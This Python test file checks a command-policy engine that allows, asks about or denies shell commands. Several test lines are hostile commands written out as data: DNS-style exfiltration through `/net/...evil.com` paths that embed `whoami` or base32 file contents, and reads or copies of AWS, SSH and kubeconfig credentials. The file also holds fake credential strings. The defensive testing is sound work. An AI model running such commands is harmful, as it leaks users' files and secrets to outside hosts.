"""Review DT, the rest: DT1 paths below an automounter's `/net` and `/hosts` through any
command, `cd` and links included; DT3 git's `signature` atom in listings and sort keys;
DT4 more credential shapes in variable values; DT5 credential files the environment
names, at their real place, and protected home files that are links; DT9 wrappers that
reach node through `exec -a`, a condition or a variable; DT12 `ls -R` of a workspace
kubeconfig and an approved javac's system class path."""

from __future__ import annotations

import os
import zipfile
from pathlib import Path

import pytest
from realrun import copy_workspace, decide, env_beside, git_ok, scan_judge

from policylang import Verdict
from policylang.decision import Decision
from policylang.engine import paths
from policylang.engine.policy import load_policy
from policylang.executor import looks_secret


def messages(decision: Decision) -> str:
    return decision.explain()


@pytest.mark.parametrize(
    "line",
    ["cd /net/x.evil.example.com", "cd /net/$(whoami).evil.com", "test -e /net/x.evil.com",
     "[ -d /hosts/x ]", "[ -e /net/$(hostname).evil.com ]",
     'test -d "/net/$(head -c 30 README.md | base32 | tr -d =).evil.com"',
     "realpath /net/$(whoami).evil.com", "readlink -f /hosts/x.evil.com", "lsof /net/evil.com",
     "lsof +D /net/evil.com", "ls /NET/evil.com", "stat --format=%n /net/h", "cd /net; cd h",
     "ls lnk/", "cat lnk/x", "cd lnk", "cd lnk && ls"],
)  # fmt: skip
def test_dt1_automount_paths_ask(tmp_path: Path, line: str) -> None:
    workspace = copy_workspace(tmp_path)
    (workspace / "lnk").symlink_to("/net/evil.example.com")
    decision = decide(line, workspace, env_beside(tmp_path))
    assert decision.verdict is Verdict.ASK, line
    assert "automounter resolves" in messages(decision), messages(decision)


@pytest.mark.parametrize(
    "line",
    ["ls /net", "cat /proc/net/dev", "echo https://example.com/net/x", "ls net/x",
     'echo "see /net/x for the mounts"'],
)  # fmt: skip
def test_dt1_other_net_paths_allowed(tmp_path: Path, line: str) -> None:
    workspace = copy_workspace(tmp_path)
    (workspace / "net" / "x").mkdir(parents=True)
    assert decide(line, workspace, env_beside(tmp_path)).verdict is Verdict.ALLOW, line


def test_dt1_links_into_net_are_not_looked_up(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Where the system has `/net` (macOS), paths are resolved one step at a time and no
    lookup goes below it: recorded here with the system calls of a resolution."""
    workspace = copy_workspace(tmp_path)
    (workspace / "lnk").symlink_to("/net/evil.example.com")
    monkeypatch.setattr(paths, "_AUTOMOUNTS", [True])
    looked: list[str] = []
    for name in ("lstat", "stat", "access", "open", "readlink"):
        original = getattr(os, name)

        def spy(path: object, *args: object, _original: object = original, **kw: object) -> object:
            looked.append(str(path))
            return _original(path, *args, **kw)  # type: ignore[operator]

        monkeypatch.setattr(os, name, spy)
    for line in ("ls lnk/", "cat lnk/x", "cd lnk", "cd /net/evil.example.com"):
        assert decide(line, workspace, env_beside(tmp_path)).verdict is Verdict.ASK, line
    assert not [p for p in looked if p.lower().startswith(("/net/", "/hosts/"))], looked


@pytest.mark.parametrize(
    "line",
    ['git tag -l --format="%(signature)"', 'git tag --list --format="%(signature:key)"',
     'git branch -l --format="%(signature)"', 'git for-each-ref --format="%(*signature)"',
     "git for-each-ref --sort=signature", "git branch -l --sort=signature:grade",
     "git tag -l --sort=signature:grade", "git tag -l --sort -*signature"],
)  # fmt: skip
def test_dt3_the_signature_atom_in_listings_and_sort_keys(tmp_path: Path, line: str) -> None:
    """git 2.41's ref-filter `signature` atom verifies a commit's signature (runs gpg, as
    `%G?` does). The git here (2.39) has no such atom, so this is judged by evaluation
    only, not run."""
    workspace = copy_workspace(tmp_path)
    git_ok(workspace, "init", "-q")
    assert decide(line, workspace, env_beside(tmp_path)).verdict is Verdict.ASK, line


@pytest.mark.parametrize(
    "line",
    ["git tag -l", 'git tag -l --sort=-creatordate --format="%(refname)"',
     "git branch -l --sort=committerdate", "git for-each-ref --sort=refname"],
)  # fmt: skip
def test_dt3_other_listings_allowed(tmp_path: Path, line: str) -> None:
    workspace = copy_workspace(tmp_path)
    git_ok(workspace, "init", "-q")
    assert decide(line, workspace, env_beside(tmp_path)).verdict is Verdict.ALLOW, line


@pytest.mark.parametrize(
    ("setting", "line"),
    [("[tag]\n\tsort = -signature:grade\n", "git tag -l"),
     ("[branch]\n\tsort = signature\n", "git branch -l")],
)  # fmt: skip
def test_dt3_a_configured_signature_sort(tmp_path: Path, setting: str, line: str) -> None:
    """`tag.sort` and `branch.sort` name the listings' default key; judged by evaluation
    only (git 2.39 here has no `signature` atom)."""
    workspace = copy_workspace(tmp_path)
    git_ok(workspace, "init", "-q")
    env = env_beside(tmp_path)
    assert decide(line, workspace, env).verdict is Verdict.ALLOW
    with (workspace / ".git" / "config").open("a") as config:
        config.write(setting)
    assert decide(line, workspace, env).verdict is Verdict.ASK
    # the user's own setting too: the repository's commits choose what is verified
    (workspace / ".git" / "config").write_text("[core]\n\tbare = false\n")
    (tmp_path / "home" / ".gitconfig").write_text(setting)
    assert decide(line, workspace, env).verdict is Verdict.ASK


_CREDENTIAL_VALUES = {
    "SPRING_DATASOURCE_URL": "jdbc:postgresql://db:5432/app?user=app&password=S3cret",
    "JDBC_MS": "jdbc:sqlserver://db:1433;user=sa;password=S3cret",
    "ConnectionStrings__Default": "Server=db;Database=app;User Id=sa;Password=S3cret;",
    "HTTPS_PROXY": "alice:ProxyPw1@proxy.corp:3128",
    "REPO": "https://0123456789abcdef0123456789abcdef01234567@github.com/a/b.git",
    "PGX": "host=db user=app password=S3cret",
    "STS": "ASIA" + "Q" * 16,
    "GOOG": "ya29.a0AfH6SMBx3Q2Zabcdefghijklmnop",
    "VT": "hvs.CAESIJabcdefghijklmnopqrstuvwxyz",
    "DO": "dop_v1_" + "0123456789abcdef" * 4,
    "RUNNER": "glrt-abcdefghij0123456789",
    "DEPLOY_TOKEN_VALUE": "gldt-abcdefghij0123456789",
    "SLACK_APP": "xapp-1-A0123456-789-abcdef",
}  # fmt: skip


@pytest.mark.parametrize("name", sorted(_CREDENTIAL_VALUES))
def test_dt4_credential_values_ask(tmp_path: Path, name: str) -> None:
    workspace = copy_workspace(tmp_path)
    env = env_beside(tmp_path, **{name: _CREDENTIAL_VALUES[name]})
    for line in (f"echo ${name}", f"printenv {name}"):
        assert decide(line, workspace, env).verdict is Verdict.ASK, line


@pytest.mark.parametrize(
    "value",
    ["deploy@host.example", "USER@host", "git@github.com:org/repo.git", "http://proxy.corp:3128",
     "https://example.com/a/b", "https://user@example.com/x", "ssh://git@github.com/o/r.git",
     "user@host:/srv/x", "mailto:joe@example.com", "postgres://app@db:5432/app",
     "--password-store=basic", "rs=0:di=01;34:ln=01;36"],
)  # fmt: skip
def test_dt4_ordinary_values_allowed(tmp_path: Path, value: str) -> None:
    workspace = copy_workspace(tmp_path)
    env = env_beside(tmp_path, PLAIN=value, LANG="en_US.UTF-8")
    for line in ("echo $PLAIN", "printenv PLAIN", "echo $PATH $HOME $LANG"):
        assert decide(line, workspace, env).verdict is Verdict.ALLOW, (line, value)


def test_dt4_dotnet_connection_strings_are_secret_names() -> None:
    table = load_policy().compiled.env
    for name in ("ConnectionStrings__Default", "connectionstrings__x"):
        assert table.secret(name) is not None, name
        assert looks_secret(name), name  # (the executor scrubs it too)


def _clusters(tmp_path: Path) -> Path:
    """`home/clusters2/prod.yaml`, a kubeconfig with a token, and `home/kc-current`, a
    link to it (kubectx-style switching)."""
    home = tmp_path / "home"
    (home / "clusters2").mkdir()
    (home / "clusters2" / "prod.yaml").write_text("token: K2SECRET\n")
    (home / "kc-current").symlink_to(home / "clusters2" / "prod.yaml")
    return home


def test_dt5_a_named_credential_file_at_its_real_place(tmp_path: Path) -> None:
    workspace = copy_workspace(tmp_path)
    home = _clusters(tmp_path)
    env = env_beside(tmp_path, KUBECONFIG=f"{home}/kc-current")
    for line in ("cat ~/kc-current", "cat ~/clusters2/prod.yaml", "grep -r token ~/clusters2",
                 "cp ~/clusters2/prod.yaml ."):  # fmt: skip
        assert decide(line, workspace, env).verdict is Verdict.DENY, line
    # through a linked folder (macOS's `/tmp`, `/var`)
    (tmp_path / "cl").symlink_to(home / "clusters2")
    env = env_beside(tmp_path, KUBECONFIG=f"{tmp_path}/cl/prod.yaml")
    assert decide("cat ~/clusters2/prod.yaml", workspace, env).verdict is Verdict.DENY
    assert decide("cat ~/README", workspace, env).verdict is Verdict.ALLOW


def test_dt5_a_protected_home_file_that_is_a_link(tmp_path: Path) -> None:
    """stow or chezmoi: `~/.aws/credentials -> ~/dotfiles/aws/credentials`."""
    workspace = copy_workspace(tmp_path)
    home = tmp_path / "home"
    (home / "dotfiles" / "aws").mkdir(parents=True)
    (home / "dotfiles" / "aws" / "credentials").write_text("aws_secret_access_key=S\n")
    (home / "dotfiles" / "README").write_text("dotfiles\n")
    (home / ".aws").mkdir()
    (home / ".aws" / "credentials").symlink_to("../dotfiles/aws/credentials")
    (home / "dotfiles" / "ssh").mkdir()
    (home / "dotfiles" / "ssh" / "id_ed25519").write_text("KEY\n")
    (home / ".ssh").symlink_to("dotfiles/ssh")
    env = env_beside(tmp_path)
    for line in ("cat ~/.aws/credentials", "cat ~/dotfiles/aws/credentials",
                 "grep -r x ~/dotfiles", "cat ~/dotfiles/ssh/id_ed25519",
                 "cp ~/dotfiles/aws/credentials ."):  # fmt: skip
        assert decide(line, workspace, env).verdict is Verdict.DENY, line
    assert decide("cat ~/dotfiles/README", workspace, env).verdict is Verdict.ALLOW
    explained = decide("cat ~/dotfiles/aws/credentials", workspace, env).explain()
    assert f"where the link `{home}/.aws/credentials` leads" in explained, explained


def test_dt12_listing_names_beside_a_workspace_kubeconfig(tmp_path: Path) -> None:
    workspace = copy_workspace(tmp_path)
    (workspace / "kubeconfig").write_text("token: K\n")
    env = env_beside(tmp_path, KUBECONFIG=f"{workspace}/kubeconfig")
    for line in ("ls -R", "ls -R .", "tree", "find . -name '*.json'"):
        assert decide(line, workspace, env).verdict is Verdict.ALLOW, line
    for line in ("grep -r token .", "cat kubeconfig", "tar cf /tmp/x.tar ."):
        assert decide(line, workspace, env).verdict is Verdict.DENY, line


def _wrapper(tmp_path: Path, body: str) -> dict[str, str]:
    """A program `tsc` on PATH that is the shell script `body`; the environment that
    runs it with node preloading the workspace's `./x.js`."""
    program = tmp_path / "wrapbin" / "tsc"
    program.parent.mkdir(exist_ok=True)
    program.write_text(body)
    program.chmod(0o755)
    return env_beside(tmp_path, PATH=f"{program.parent}:/usr/bin:/bin",
                      NODE_OPTIONS="--require ./x.js")  # fmt: skip


@pytest.mark.parametrize(
    "body",
    ['#!/usr/bin/env bash\nexec -a tsc /usr/bin/node /opt/tsc.js "$@"\n',
     '#!/bin/sh\nNODE=/usr/bin/node\n"$NODE" /opt/tsc.js "$@"\n',
     '#!/bin/sh\ntest -x /usr/bin/node && exec /usr/bin/node /opt/tsc.js "$@"\n',
     '#!/bin/sh\nif [ -x /usr/bin/node ]; then exec node /opt/tsc.js "$@"; fi\n',
     '#!/bin/sh\nexec -c -l node /opt/tsc.js "$@"\n',
     '#!/bin/sh\nexec ${NODE:-node} /opt/tsc.js "$@"\n',
     '#!/bin/sh\nexec "$(command -v nodejs)" /opt/tsc.js "$@"\n'],
)  # fmt: skip
def test_dt9_wrappers_that_reach_node(tmp_path: Path, body: str) -> None:
    workspace = copy_workspace(tmp_path)
    (workspace / "x.js").write_text("// x\n")
    env = _wrapper(tmp_path, body)
    decision = decide("tsc --version", workspace, env, "tsc")
    assert decision.verdict is Verdict.ASK, decision.explain()
    env.pop("NODE_OPTIONS")
    assert decide("tsc --version", workspace, env, "tsc").verdict is Verdict.ALLOW


def test_dt9_a_wrapper_of_another_program(tmp_path: Path) -> None:
    workspace = copy_workspace(tmp_path)
    (workspace / "x.js").write_text("// x\n")
    env = _wrapper(tmp_path, '#!/bin/sh\necho "starting $0"\nexec -a tsc /usr/bin/true "$@"\n')
    assert decide("tsc --version", workspace, env, "tsc").verdict is Verdict.ALLOW


@pytest.mark.parametrize(
    "line",
    ["javac -cp /usr/share/java/x.jar -d out X.java", 'javac -cp "/usr/share/java/*" -d out X.java',
     "javac -cp /usr/share/java/x.jar:. -d out X.java",
     "javac --class-path=/usr/share/java/x.jar -d out X.java",
     "javac -classpath /usr/share/java/x.jar -sourcepath /usr/share/java -d out X.java"],
)  # fmt: skip
def test_dt12_an_approved_javacs_system_class_path(tmp_path: Path, line: str) -> None:
    """The class path is read, not a folder the sources are written into (it had asked
    `writes /usr/share/java/x.jar/X.java outside the workspace`)."""
    workspace = copy_workspace(tmp_path)
    (workspace / "X.java").write_text("class X {}\n")
    decision = scan_judge(line, workspace, "javac")
    assert decision.verdict is Verdict.ALLOW, decision.explain()


@pytest.mark.parametrize(
    ("line", "verdict"),
    [("javac -cp ~/.ssh/id_ed25519 X.java", Verdict.DENY),
     ("javac -cp /usr/share/java/x.jar -d /opt/out X.java", Verdict.ASK),
     ("javac -cp lib/p.jar X.java", Verdict.ASK),
     ("javac --module-path /usr/share/java X.java", Verdict.ASK),
     ("javac --system=/opt/jdk X.java", Verdict.ASK),
     ('javac -cp "$CP" X.java', Verdict.ASK)],
)  # fmt: skip
def test_dt12_javacs_class_path_still_checked(
    tmp_path: Path, line: str, verdict: Verdict
) -> None:
    """A protected file on the class path is still read, an output outside the workspace
    still asks, and a processor jar of the workspace (DS5) still asks."""
    workspace = copy_workspace(tmp_path)
    (workspace / "X.java").write_text("class X {}\n")
    (workspace / "lib").mkdir()
    with zipfile.ZipFile(workspace / "lib" / "p.jar", "w") as archive:
        archive.writestr("META-INF/services/javax.annotation.processing.Processor", "P\n")
    (tmp_path / "home" / ".ssh").mkdir()
    (tmp_path / "home" / ".ssh" / "id_ed25519").write_text("KEY\n")
    assert scan_judge(line, workspace, "javac").verdict is verdict, line
